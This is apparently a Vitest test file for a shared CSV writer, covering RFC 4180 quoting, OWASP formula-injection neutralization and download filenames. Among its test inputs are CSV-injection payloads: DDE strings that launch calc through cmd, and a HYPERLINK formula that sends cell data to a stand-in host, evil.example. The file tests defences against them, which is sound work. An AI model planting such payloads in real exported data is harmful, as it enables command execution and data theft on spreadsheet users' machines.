/** The shared CSV writer (app/utils/csv.ts): RFC 4180 quoting and OWASP formula-injection neutralization. */
import { describe, expect, it } from "vitest";
import { attachmentDisposition, csvField, csvRecord, looksLikeFormula, neutralizeFormula, toCsv } from "#app/utils/csv.ts";

/** A small RFC 4180 reader, to prove what we write reads back as the cells we meant. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (c === '"') {
        quoted = false;
        i++;
        continue;
      }
      field += c;
      i++;
      continue;
    }
    if (c === '"') quoted = true;
    else if (c === ",") {
      record.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      record.push(field);
      records.push(record);
      record = [];
      field = "";
      i++;
    } else field += c;
    i++;
  }
  if (field !== "" || record.length > 0) throw new Error("the text does not end with CRLF");
  return records;
}

describe("formula injection (OWASP CSV Injection)", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+41 79 000 00 00", "'+41 79 000 00 00"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["\n=1+1", "'\n=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    ["  =1+1", "'  =1+1"],
    ["\uFF1D1+1", "'\uFF1D1+1"],
    ["\uFF0B1", "'\uFF0B1"],
    ["\uFF0D1", "'\uFF0D1"],
    ["\uFF20SUM(A1)", "'\uFF20SUM(A1)"],
  ])("neutralizes %j", (input, expected) => {
    expect(looksLikeFormula(input)).toBe(true);
    expect(neutralizeFormula(input)).toBe(expected);
  });

  it.each(["plain", "a=b", "1-2", "Requests to delete", "", " ", "'already quoted", "e-mail", "Zoë", "日本語"])("leaves %j alone", (input) => {
    expect(looksLikeFormula(input)).toBe(false);
    expect(neutralizeFormula(input)).toBe(input);
  });

  it("writes numbers as numbers, negative ones included, and non-finite ones and null as empty cells", () => {
    expect(csvField(-3)).toBe('"-3"');
    expect(csvField(12.5)).toBe('"12.5"');
    expect(csvField(0)).toBe('"0"');
    expect(csvField(Number.NaN)).toBe('""');
    expect(csvField(Number.POSITIVE_INFINITY)).toBe('""');
    expect(csvField(null)).toBe('""');
    expect(csvField(undefined)).toBe('""');
    expect(csvField(true)).toBe('"true"');
    // The same characters as text are neutralized: text is what an attacker controls.
    expect(csvField("-3")).toBe(`"'-3"`);
  });
});

describe("RFC 4180 quoting", () => {
  it("quotes every field, doubles quotes, keeps commas and newlines inside the field, ends records with CRLF", () => {
    expect(csvRecord(["a", 'say "hi"', "x,y", "line 1\nline 2", "cr\r\nlf"])).toBe('"a","say ""hi""","x,y","line 1\nline 2","cr\r\nlf"\r\n');
  });

  it("reads back as the cells written (unicode, quotes, commas, newlines; formulas with their quote)", () => {
    const header = ["name", "note", "count"];
    const rows = [
      ["Zoë “Z” Ørsted", 'He said "no", then left', 3],
      ["日本語 🚀", "two\nlines, and a comma", -1],
      ["=cmd|' /C calc'!A0", "@evil", null],
      ["", "\uFF1Dformula", 0],
    ];
    const text = toCsv(header, rows);
    expect(text.endsWith("\r\n")).toBe(true);
    expect(parseCsv(text)).toEqual([
      header,
      ["Zoë “Z” Ørsted", 'He said "no", then left', "3"],
      ["日本語 🚀", "two\nlines, and a comma", "-1"],
      ["'=cmd|' /C calc'!A0", "'@evil", ""],
      ["", "'\uFF1Dformula", "0"],
    ]);
  });

  it("an empty table is just its header", () => {
    expect(toCsv(["a", "b"], [])).toBe('"a","b"\r\n');
  });
});

describe("Content-Disposition", () => {
  it("is an attachment with an ASCII fallback and the exact UTF-8 name", () => {
    expect(attachmentDisposition("requests-2025.csv")).toBe(`attachment; filename="requests-2025.csv"; filename*=UTF-8''requests-2025.csv`);
    const odd = attachmentDisposition('Zoë "x"\\.csv');
    expect(odd).toMatch(/^attachment; filename="Zo_ _x__\.csv"; filename\*=UTF-8''Zo%C3%AB%20%22x%22%5C\.csv$/);
  });
});
